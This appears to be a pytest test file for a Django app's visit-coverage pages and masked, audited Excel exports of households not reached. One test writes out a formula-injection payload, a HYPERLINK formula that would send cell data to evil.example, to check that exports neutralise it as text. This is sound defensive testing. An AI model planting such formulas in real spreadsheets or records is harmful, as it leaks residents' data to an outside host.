"""The leader's coverage page, its drill-down, the households not reached, and the Excel exports
(real .xlsx files read back with openpyxl; masked unless the user may reveal; each export in
the audit trail)."""

from __future__ import annotations

import datetime as dt
import io
import json
import re

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from linli.core.masking import mask_mobile
from linli.core.models import AuditRecord
from linli.registry.models import Household, Resident
from linli.visits import coverage
from linli.visits.models import CoverageSummary

from .. import factories as f
from ..hall import app_helpers as h
from .test_pages import build, html

TWELVE_MONTHS = {"period": "12m"}


@pytest.fixture(autouse=True)
def photos_in_tmp(settings, tmp_path):
    settings.DATA_DIR = tmp_path


def build_coverage(world):
    """The visits pages' district (`test_pages.build`) with two of its households 困难户."""
    v = build(world)
    poor = f.tag("困难户", "household", sensitive=True)
    v.long_ago.tag_links.create(tag=poor)
    v.never.tag_links.create(tag=poor)
    return v


SHARED = {"v": build_coverage}  # built once for the module on top of `world` (tests/sharing.py)


@pytest.fixture
def v(shared):
    return shared("v")


@pytest.fixture
def clients(v):
    return {key: h.client_for(user) for key, user in v.users.items()}


def _url(name: str, area=None, **params) -> str:
    query = {**TWELVE_MONTHS, **params}
    if area is not None:
        query["area"] = area.pk
    return reverse(name) + "?" + "&".join(f"{k}={val}" for k, val in query.items())


def _chart(page: str, name: str) -> dict:
    found = re.search(rf'<script id="{name}" type="application/json">(.*?)</script>', page, re.S)
    assert found, f"no {name} on the page"
    return json.loads(found.group(1))


# --- the page -----------------------------------------------------------------------------


def test_coverage_of_the_district_for_the_past_year(v, clients):
    page = html(clients["district_leader"].get(_url("visits:coverage", v.world.district)))
    households = len(v.world.households) + 2
    assert f"2 / {households}" in page  # households reached / all
    assert f"1 / {len(v.world.villages)}" in page  # villages reached / all
    assert "1 / 2" in page  # poor households reached / all
    chart = _chart(page, "coverage-chart")
    assert chart["yAxis"]["data"] == [s.name for s in v.world.streets]
    assert chart["series"][0]["data"][0] == round(100 * 2 / 6, 1)  # 太保庄街道: 2 of 6
    assert chart["series"][0]["data"][1] == 0
    trend = _chart(page, "trend-chart")
    assert trend["series"][0]["type"] == "line" and len(trend["xAxis"]["data"]) >= 1
    for street in v.world.streets:
        assert f"{reverse('visits:coverage')}?area={street.pk}&amp;period=12m" in page
    assert reverse("visits:not_reached") in page and reverse("visits:coverage_export") in page


def test_the_time_shown_is_when_the_figures_were_counted(v, clients):
    """统计时间: the refresh of the summaries the page reads, not the moment it is drawn."""
    coverage.summaries_refresh(today=v.today)
    counted = timezone.now() - dt.timedelta(minutes=20)
    CoverageSummary.objects.update(refreshed_at=counted)
    url = reverse("visits:coverage") + f"?area={v.world.district.pk}&period=year"
    page = html(clients["district_leader"].get(url))
    assert f"as of {timezone.localtime(counted):%Y-%m-%d %H:%M}" in page
    # One village's row counted earlier still: the figures are as old as their oldest part.
    village = CoverageSummary.objects.filter(period_kind="year").first().village
    earlier = counted - dt.timedelta(minutes=15)
    CoverageSummary.objects.filter(village=village).update(refreshed_at=earlier)
    page = html(clients["district_leader"].get(url))
    assert f"as of {timezone.localtime(earlier):%Y-%m-%d %H:%M}" in page


def test_coverage_drills_down_to_the_communities(v, clients):
    street = v.world.streets[0]
    page = html(clients["district_leader"].get(_url("visits:coverage", street)))
    chart = _chart(page, "coverage-chart")
    assert chart["yAxis"]["data"] == [c.name for c in v.world.communities[:2]]
    assert v.world.district.name in page  # the breadcrumb leads back up


@pytest.mark.parametrize("period", ["month", "quarter", "year", "12m"])
def test_coverage_periods(v, clients, period):
    response = clients["street_cadre"].get(_url("visits:coverage", period=period))
    assert response.status_code == 200


@pytest.mark.parametrize(
    "params",
    [
        {"period": "custom", "start": "", "end": ""},
        {"period": "custom", "start": "2026-05-01", "end": "2026-04-01"},
        {"period": "custom", "start": "2026-02-30", "end": "2026-04-01"},
        {"period": "custom", "start": "2010-01-01", "end": "2026-04-01"},
        {"period": "decade"},
    ],
)
def test_coverage_with_a_wrong_period_says_why(v, clients, params):
    response = clients["district_leader"].get(reverse("visits:coverage"), params)
    assert response.status_code == 400
    assert "alert-danger" in html(response)
    export = clients["district_leader"].get(reverse("visits:coverage_export"), params)
    assert export.status_code == 400
    assert not AuditRecord.objects.filter(action="export").exists()


def test_coverage_custom_dates(v, clients):
    start = (v.today - dt.timedelta(days=50)).isoformat()
    params = {"period": "custom", "start": start, "end": v.today.isoformat()}
    page = html(clients["district_leader"].get(reverse("visits:coverage"), params))
    assert f"1 / {len(v.world.households) + 2}" in page  # only the visit 40 days ago


def test_coverage_scope_and_roles(v, clients):
    far = v.world.communities[2]
    assert clients["community_worker"].get(_url("visits:coverage", far)).status_code == 404
    assert clients["community_worker"].get(_url("visits:not_reached", far)).status_code == 404
    for role in ("administrator", "auditor", "resident"):
        assert clients[role].get(_url("visits:coverage")).status_code == 403
    own = v.world.communities[0]
    assert clients["community_worker"].get(_url("visits:coverage", own)).status_code == 200


def test_households_not_reached(v, clients):
    page = html(clients["street_cadre"].get(_url("visits:not_reached", v.world.streets[0])))
    assert v.never.number in page and v.world.households[1].number in page
    assert v.long_ago.number not in page and v.recent.number not in page
    assert v.far.number not in page  # another street


# --- exports ------------------------------------------------------------------------------


def _workbook(response, *, read_only: bool = True):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.content), read_only=read_only)


def test_coverage_export_has_a_row_per_child_and_the_total(v, clients):
    response = clients["district_leader"].get(_url("visits:coverage_export", v.world.district))
    sheet = _workbook(response).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[2][0] == "Area" and rows[2][3] == "Households"
    body = rows[3:]
    assert [r[0] for r in body[:-1]] == [s.name for s in v.world.streets]
    assert body[0][3:5] == [6, 2] and body[1][3:5] == [4, 0]
    assert body[-1][0].endswith(v.world.district.name) and body[-1][3:5] == [10, 2]
    assert body[0][5] == pytest.approx(round(2 / 6, 4))
    record = AuditRecord.objects.get(action="export")
    assert record.object_id == str(v.world.district.pk) and record.changes["rows"] == 2


def test_not_reached_export_is_masked_for_a_leader_who_may_not_reveal(v, clients):
    response = clients["district_leader"].get(_url("visits:not_reached_export", v.world.district))
    rows = list(_workbook(response).worksheets[0].iter_rows(values_only=True))
    numbers = [r[0] for r in rows[1:]]
    assert v.never.number in numbers and v.long_ago.number not in numbers
    assert len(numbers) == len(v.world.households) + 2 - 2
    never = next(r for r in rows if r[0] == v.never.number)
    assert never[4] == mask_mobile(v.never.head.mobile)
    assert "困难户" not in (never[5] or "")  # a sensitive tag stays out
    record = AuditRecord.objects.get(action="export")
    assert record.changes["masked"] is True and record.changes["rows"] == len(numbers)


def test_not_reached_export_by_link_is_masked_even_for_who_may_reveal(v, clients):
    response = clients["street_cadre"].get(_url("visits:not_reached_export", v.world.streets[0]))
    rows = list(_workbook(response).worksheets[0].iter_rows(values_only=True))
    never = next(r for r in rows if r[0] == v.never.number)
    assert never[4] == mask_mobile(v.never.head.mobile) and "困难户" not in (never[5] or "")
    record = AuditRecord.objects.get(action="export")
    assert record.changes["masked"] is True and record.reason == ""


def test_not_reached_export_with_full_numbers_is_a_post_with_a_reason(v, clients):
    url = _url("visits:not_reached_export", v.world.streets[0])
    response = clients["street_cadre"].post(url, {"reason": "核对联系电话"})
    rows = list(_workbook(response).worksheets[0].iter_rows(values_only=True))
    never = next(r for r in rows if r[0] == v.never.number)
    assert never[4] == v.never.head.mobile and "困难户" in never[5]
    assert v.far.number not in [r[0] for r in rows]
    record = AuditRecord.objects.get(action="reveal", object_id=str(v.world.streets[0].pk))
    assert record.changes["masked"] is False and record.reason == "核对联系电话"
    assert record.changes["rows"] == len(rows) - 1
    assert record.actor == v.users["street_cadre"]


def test_not_reached_export_with_full_numbers_needs_a_reason_and_reveal(v, clients):
    url = _url("visits:not_reached_export", v.world.streets[0])
    refused = clients["street_cadre"].post(url, {"reason": " "})
    assert refused.status_code == 400 and "Content-Disposition" not in refused
    assert "Please state why the export needs the full ID and mobile numbers" in html(refused)
    assert 'data-testid="full-export"' in html(refused)
    leader = clients["district_leader"].post(
        _url("visits:not_reached_export", v.world.district), {"reason": "核对联系电话"}
    )
    assert leader.status_code == 403 and "Content-Disposition" not in leader
    assert not AuditRecord.objects.filter(action__in=["export", "reveal"]).exists()
    denial = AuditRecord.objects.get(action="denied", actor=v.users["district_leader"])
    assert denial.changes["method"] == "POST" and denial.changes["status"] == 403


def test_the_not_reached_page_offers_the_full_export_only_to_who_may_reveal(v, clients):
    page = html(clients["street_cadre"].get(_url("visits:not_reached", v.world.streets[0])))
    assert 'data-testid="full-export"' in page
    assert f'action="{reverse("visits:not_reached_export")}?period=12m&amp;area=' in page
    leaders = html(clients["district_leader"].get(_url("visits:not_reached", v.world.district)))
    assert reverse("visits:not_reached_export") in leaders
    assert 'data-testid="full-export"' not in leaders


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def test_a_formula_in_an_address_or_a_name_comes_out_as_text(v, clients):
    Household.objects.filter(pk=v.never.pk).update(address=HYPERLINK)
    Resident.objects.filter(pk=v.never.head_id).update(name="@SUM(1+1)")
    url = _url("visits:not_reached_export", v.world.streets[0])
    for response in (
        clients["street_cadre"].get(url),
        clients["street_cadre"].post(url, {"reason": "核对联系电话"}),
    ):
        sheet = _workbook(response, read_only=False).worksheets[0]
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == v.never.number)
        for cell, text in ((row[2], HYPERLINK), (row[3], "@SUM(1+1)")):
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_every_export_is_kept_from_caches(v, clients):
    street = v.world.streets[0]
    for response in (
        clients["district_leader"].get(_url("visits:coverage_export", v.world.district)),
        clients["street_cadre"].get(_url("visits:not_reached_export", street)),
        clients["street_cadre"].post(
            _url("visits:not_reached_export", street), {"reason": "核对联系电话"}
        ),
    ):
        _workbook(response)
        assert "no-store" in response["Cache-Control"]


def test_exports_outside_the_scope(v, clients):
    far = v.world.communities[2]
    for name in ("visits:coverage_export", "visits:not_reached_export"):
        assert clients["community_worker"].get(_url(name, far)).status_code == 404
        assert clients["administrator"].get(_url(name)).status_code == 403
    far_post = clients["community_worker"].post(
        _url("visits:not_reached_export", far), {"reason": "核对联系电话"}
    )
    assert far_post.status_code == 404
    assert not AuditRecord.objects.filter(action__in=["export", "reveal"]).exists()
    # Each refusal of another area is in the audit trail, naming the area asked for.
    denials = AuditRecord.objects.filter(action="denied", actor=v.users["community_worker"])
    assert denials.count() == 3
    assert {(d.object_type, d.object_id) for d in denials} == {("core.area", str(far.pk))}


def test_not_reached_costs_the_same_at_few_and_many_rows(v, clients):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = _url("visits:not_reached", v.world.streets[0])

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert clients["street_cadre"].get(url).status_code == 200
        return len(queries)

    count()
    few = count()
    for i in range(12):
        f.household(v.world.grids[0], f"H5{i:04d}", head_name=f"未{i}")
    assert count() == few
